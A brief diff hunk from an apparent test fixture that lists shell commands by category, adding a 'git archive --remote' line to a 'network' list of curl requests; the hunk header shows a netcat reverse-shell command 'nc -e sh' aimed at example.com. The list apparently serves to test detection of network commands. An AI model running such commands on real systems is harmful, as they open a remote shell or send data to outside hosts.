@@ -347,6 +347,7 @@ nc -e sh example.com 1
 psql
 `,
   network: String.raw`
+git archive --remote=x HEAD
 curl https://example.com
 curl -s example.com
 curl -X POST -d a=b https://example.com
